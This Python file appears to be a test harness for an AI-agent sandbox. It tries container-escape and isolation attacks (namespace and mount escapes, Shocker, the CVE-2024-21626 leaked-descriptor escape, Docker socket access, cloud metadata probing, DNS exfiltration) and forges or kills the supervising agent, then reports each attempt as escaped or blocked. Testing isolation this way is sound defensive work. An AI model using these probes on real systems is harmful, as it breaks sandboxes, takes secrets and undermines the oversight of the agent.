"""Attacks from inside a hand. `python3 inside.py NAME [ARGS...]` tries one and prints what happened, one line per try:
ESCAPED when the attack worked, BLOCKED with the reason when it did not. The same file runs in containers without the
defence, where it must say ESCAPED: an attack that works nowhere proves nothing.
Amounts are bounded here, so that a defence that fails does not take the machine along.
"""
import ctypes, errno, glob, os, re, select, signal, socket, stat, struct, subprocess, sys, threading, time, zlib

libc = ctypes.CDLL(None, use_errno=True)
MACHINE = os.uname().machine
NUMBERS = {  # system call: (x86-64, arm64)
    "ptrace": (101, 117), "syslog": (103, 116), "mount": (165, 40), 
    "add_key": (248, 217), "unshare": (272, 97), "perf_event_open": (298, 241), "open_by_handle_at": (304, 265),
    "setns": (308, 268), "process_vm_readv": (310, 270), "bpf": (321, 280), "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425), "fsopen": (430, 430), "clone3": (435, 435), "personality": (135, 92),
    "modify_ldt": (154, -1), "pivot_root": (155, 41), "swapon": (167, 224), "sethostname": (170, 161),
}
NEWNS, NEWUSER, NEWNET = 0x20000, 0x10000000, 0x40000000


def escaped(text): print("ESCAPED", text, flush=True)
def blocked(text): print("BLOCKED", text, flush=True)
def name_of(error): return errno.errorcode.get(error, str(error))


def call(name, *args):
    number = NUMBERS[name][0 if MACHINE == "x86_64" else 1]
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *args)
    return result, ctypes.get_errno()


def reached(name, *args):
    """An answer other than "not permitted" or "no such call" comes from the kernel's code behind the gate."""
    result, error = call(name, *args)
    if result < 0 and error in (errno.EPERM, errno.ENOSYS, errno.EACCES): blocked(f"{name}: {name_of(error)}")
    else: escaped(f"{name} answered {result} {name_of(error) if result < 0 else ''}")


def attempt(what, work):
    try: escaped(f"{what}: {work() or 'done'}")
    except (OSError, ValueError) as error: blocked(f"{what}: {name_of(getattr(error, 'errno', 0) or 0)}")


def opens(path, flags=os.O_RDONLY, read=0):
    def work():
        fd = os.open(path, flags | os.O_NONBLOCK)
        try: return len(os.read(fd, read)) if read else "opened"
        finally: os.close(fd)
    attempt(path, work)


# --- privileges ---
def capabilities():
    status = open("/proc/self/status").read()
    held = re.search(r"CapEff:\s*(\w+)", status).group(1)
    (escaped if int(held, 16) else blocked)(f"CapEff {held}")
def mknod(): attempt("mknod", lambda: os.mknod("/tmp/mh-device", stat.S_IFBLK | 0o600, os.makedev(7, 0)))
def chroot(): attempt("chroot", lambda: os.chroot("/tmp"))
def become_root(): attempt("setuid(0)", lambda: os.setuid(0))
def file_caps():
    path = "/tmp/mh-caps"
    open(path, "w").close()
    attempt("file capability", lambda: os.setxattr(path, "security.capability", struct.pack("<5I", 0x2000001, 1, 0, 0, 0)))
def setuid_program():
    programs = [p for p in ("/usr/bin/su", "/bin/su", "/usr/bin/passwd") if os.path.exists(p) and os.stat(p).st_mode & stat.S_ISUID]
    if not programs: return blocked("no setuid program is here")
    child = subprocess.Popen([programs[0], "-c", "true"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        end = time.time() + 2
        while time.time() < end and child.poll() is None:
            uids = re.search(r"Uid:\s*(\d+)\s+(\d+)", open(f"/proc/{child.pid}/status").read())
            if uids and uids.group(2) == "0": return escaped(f"{programs[0]} runs as 0")
            time.sleep(0.01)
    except OSError: pass
    finally: child.kill()
    blocked(f"{programs[0]} never ran as 0")


# --- kernel ---
def mount(): reached("mount", b"none", b"/tmp", b"tmpfs", 0, b"size=4k")
def fsopen(): reached("fsopen", b"tmpfs", 0)
def namespaces():
    for flag, name in ((NEWUSER, "user"), (NEWNS, "mount"), (NEWNET, "net")):
        child = os.fork()
        if child == 0: os._exit(0 if call("unshare", flag)[0] == 0 else 1)
        (escaped if os.waitpid(child, 0)[1] == 0 else blocked)(f"unshare {name}")
def clone3():
    args = (ctypes.c_uint64 * 11)(NEWUSER, 0, 0, 0, signal.SIGCHLD)
    result, error = call("clone3", ctypes.byref(args), ctypes.sizeof(args))
    if result == 0: os._exit(0)
    (escaped if result > 0 else blocked)(f"clone3 user namespace: {result} {name_of(error)}")
def setns():
    def work():
        fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
        if call("setns", fd, 0)[0] != 0: raise OSError(ctypes.get_errno(), "setns")
    attempt("enter the namespaces of process 1", work)
def sethostname(): reached("sethostname", b"attacked", 8)
def bpf(): reached("bpf", 0, struct.pack("<IIIII", 2, 4, 4, 1, 0) + bytes(100), 120)
def perf(): reached("perf_event_open", struct.pack("<IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0)
def keyring(): reached("add_key", b"user", b"mh", b"x", 1, -2)
def userfaultfd(): reached("userfaultfd", 0)
def shocker(): reached("open_by_handle_at", -100, struct.pack("<IiQ", 8, 1, 2) + bytes(16), 0)
def io_uring(): reached("io_uring_setup", 4, bytes(120))
def personality(): reached("personality", 0x0040000)
def modify_ldt(): reached("modify_ldt", 0, bytes(16), 16)
def pivot_root(): reached("pivot_root", b"/tmp", b"/tmp")
def swapon(): reached("swapon", b"/tmp/mh-none", 0)
def sockets(*families):
    known = {"packet": (17, 3, 0), "raw": (2, 3, 1), "vsock": (40, 1, 0), "netfilter": (16, 3, 12)}
    for family in families: attempt(f"socket {family}", lambda: socket.socket(*known[family]).close())
def dmesg():
    result, error = call("syslog", 3, ctypes.create_string_buffer(4096), 4096)
    (escaped if result > 0 else blocked)(f"kernel log: {result} {name_of(error)}")
def kallsyms():
    try: addresses = [line.split()[0] for line in open("/proc/kallsyms").read(20000).splitlines()]
    except OSError as error: return blocked(f"kallsyms: {name_of(error.errno)}")
    (escaped if any(int(a, 16) for a in addresses) else blocked)(f"kallsyms: {len(addresses)} lines")
def kernel_settings():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper"):
        opens(path, os.O_WRONLY)
    for path in glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)[:4]: opens(path, os.O_WRONLY)
def limits_of_cgroup():
    found = glob.glob("/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True) + glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True)
    if not found: return blocked("no control group is shown")
    for path in found[:4]: opens(path, os.O_WRONLY)
def devices():
    for path in ("/dev/mem", "/dev/kvm", "/dev/loop-control", "/dev/loop0", "/dev/vda", "/dev/sda", "/dev/nvme0n1"): opens(path)


# --- the agent ---
def attach_agent(pid="1"):
    result, error = call("ptrace", 0x4206, int(pid), 0, 0)  # SEIZE: does not stop it, and ends with us
    (escaped if result == 0 else blocked)(f"ptrace of {pid}: {name_of(error)}")
def read_memory(pid="1"):
    def work():
        area = next(l for l in open(f"/proc/{pid}/maps") if " rw-p " in l or "[stack]" in l).split()[0].split("-")
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            mem.seek(int(area[0], 16))
            return f"{len(mem.read(64))} bytes of process {pid}"
    attempt("memory of the agent", work)
    local, remote = ctypes.create_string_buffer(8), (ctypes.c_void_p * 2)(0x400000, 8)
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(local), 8)
    result, error = call("process_vm_readv", int(pid), ctypes.byref(iov), 1, ctypes.byref(remote), 1, 0)
    (escaped if result > 0 or error == errno.EFAULT else blocked)(f"process_vm_readv: {name_of(error)}")
def look_at_agent(pid="1"):
    for path in (f"/proc/{pid}/exe", f"/proc/{pid}/fd/0"): opens(path)
    try: text = open(f"/proc/{pid}/environ", "rb").read().strip(b"\0")
    except OSError as error: blocked(f"/proc/{pid}/environ: {name_of(error.errno)}")
    else: (escaped if text else blocked)(f"/proc/{pid}/environ: {len(text)} bytes")
    attempt(f"/proc/{pid}/cwd", lambda: os.listdir(f"/proc/{pid}/root"))
def overwrite_exe(pid="1"):
    for path in (f"/proc/{pid}/exe", "/.manyhands/bin/hand-agent"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            escaped(f"{path} opened for writing")
        except OSError as error: (escaped if error.errno == errno.ETXTBSY else blocked)(f"{path}: {name_of(error.errno)}")
def journal(): attempt("the journal", lambda: os.listdir("/.manyhands/journal"))
def scripts():
    """Scripts of the shell: to write one is to run as the next command."""
    attempt("write /.manyhands/run", lambda: open("/.manyhands/run/s1", "w").close())
def kill_agent(pid="1"):
    if pid == "child": pid = str(subprocess.Popen(["sleep", "30"]).pid)
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        try: os.kill(int(pid), number)
        except PermissionError: continue
    time.sleep(0.2)
    try: state = re.search(r"State:\s*(\w)", open(f"/proc/{pid}/status").read()).group(1)
    except OSError: state = "gone"
    (blocked if state in "SR" else escaped)(f"process {pid} is {state}")
def frame(kind, epoch, number, fields):
    payload = struct.pack("<BII", kind, epoch, number) + fields
    payload += struct.pack("<I", zlib.crc32(payload))
    return b"".join(bytes((0x7D, b ^ 0x20)) if b in (0x7D, 0x7E) else bytes((b,)) for b in payload) + b"\x7e"
def forged(number):
    """The end of an operation, exit code 77, as the agent would tell it."""
    ident = b"forged"
    state = struct.pack("<I", len(ident)) + ident + bytes((1, 3, 0, 0)) + struct.pack("<IIQQQQ", 77, 0, 0, 0, 0, 0)
    return frame(133, 1, number, state)
def forge(where="stdout"):
    data = b"\x7e" + b"".join(forged(n) for n in range(1, 200))
    if where == "stdout":
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()
    else:
        for fd in (1, 2, 0):
            def work(path=f"/proc/1/fd/{fd}"):
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(out, data)
            attempt(f"write to the agent's {fd}", work)


# --- secrets ---
def canary_in_environment(canary):
    found = []
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        if path.split("/")[2] == str(os.getpid()) and path.endswith("cmdline"): continue
        try: text = open(path, "rb").read()
        except OSError: continue
        if canary.encode() in text and b"inside.py" not in text: found.append(path)
    if canary in "\0".join(os.environ.values()): found.append("own environment")
    (escaped if found else blocked)(f"the manager's secret: {found[:3] or 'nowhere'}")
def canary_file(path, canary):
    places = [path, "/proc/1/root" + path, "/proc/self/root" + path, "/../../../.." + path, "/host" + path, "/mnt" + path, "/rootfs" + path]
    places += [f"/proc/self/fd/{fd}{'/..' * 6}{path}" for fd in range(3, 12)]
    for place in places:
        try: text = open(place).read()
        except (OSError, UnicodeDecodeError): continue
        if canary in text: return escaped(f"a file of the host at {place}")
    blocked(f"{len(places)} ways to a file of the host")
def leaked_files():
    """CVE-2024-21626: an open directory of the host is a way to all of it."""
    found = []
    for fd in range(3, 64):
        try: target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError: continue
        try:
            if stat.S_ISDIR(os.stat(f"/proc/self/fd/{fd}").st_mode) and not target.startswith("/proc"): found.append(target)
        except OSError: pass
    (escaped if found else blocked)(f"open directories: {found}")
def engine_socket():
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/docker/containerd/containerd.sock"):
        def work():
            with socket.socket(socket.AF_UNIX) as s: s.connect(path)
        attempt(path, work)


# --- network ---
def reach(*targets):
    for target in targets:
        host, port = target.rsplit(":", 1)
        def work():
            with socket.create_connection((host.strip("[]"), int(port)), 0.7) as s:
                s.settimeout(0.7)
                try: return repr(s.recv(20))
                except TimeoutError: return "connected"
        attempt(target, work)
def metadata(own=""):
    """`own`: in a container without the defence there is no such server, so it first makes itself one."""
    address = ("169.254.169.254", 80)
    if own:
        import fcntl
        for name, ip in (("lo:1", "169.254.169.254"),):
            request = struct.pack("<16sHH4s8x", name.encode(), 2, 0, socket.inet_aton(ip))
            with socket.socket() as s: fcntl.ioctl(s, 0x8916, request)
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(address)
        server.listen(1)
    reach("169.254.169.254:80", *(() if own else ("100.100.100.200:80", "[fd00:ec2::254]:80")))
def datagrams(token, *targets):
    """DNS queries that carry data out; whether they arrive is seen by the resolver outside."""
    query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + bytes((len(token),)) + token.encode() + b"\x07example\x00\x00\x01\x00\x01"
    sent = 0
    for target in targets:
        host, port = target.rsplit(":", 1)
        try: sent += socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (host, int(port))) > 0
        except OSError: pass
    try: socket.getaddrinfo(token + ".example.com", 80)
    except OSError: pass
    blocked(f"{sent} of {len(targets)} queries could be sent at all")
def interfaces():
    names = [n for n in re.findall(r"^\s*(\S+?):", open("/proc/net/dev").read(), re.M) if n != "lo"]
    (escaped if names else blocked)(f"interfaces besides lo: {names}")


# --- neighbours ---
def leave_traces(token):
    """Whatever another hand could find: files, memory, sockets, queues."""
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/workspace", "/run"):
        try: open(f"{folder}/{token}", "w").write(token)
        except OSError: pass
    key = zlib.crc32(token.encode()) & 0x7FFFFFFF
    libc.shmget(key, 4096, 0o1666)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\0" + token)
    listener.listen(4)
    port = socket.socket()
    port.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    port.bind(("0.0.0.0", 20000 + key % 10000))
    port.listen(4)
    print("left", flush=True)
    time.sleep(20)
def find_traces(token):
    key = zlib.crc32(token.encode()) & 0x7FFFFFFF
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/workspace", "/run"): opens(f"{folder}/{token}")
    (escaped if libc.shmget(key, 4096, 0o666) >= 0 else blocked)("shared memory segment")
    attempt("abstract socket", lambda: socket.socket(socket.AF_UNIX).connect("\0" + token))
    reach(f"127.0.0.1:{20000 + key % 10000}")
    own = str(os.getpid())
    seen = [p for p in glob.glob("/proc/[0-9]*/cmdline") if token.encode() in open(p, "rb").read() and p.split("/")[2] != own]
    (escaped if any(b"leave_traces" in open(p, "rb").read() for p in seen) else blocked)("its processes")


if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    name = sys.argv[1]
    if name not in globals():
        import exhaust
        getattr(exhaust, name)(*sys.argv[2:])
    else: globals()[name](*sys.argv[2:])
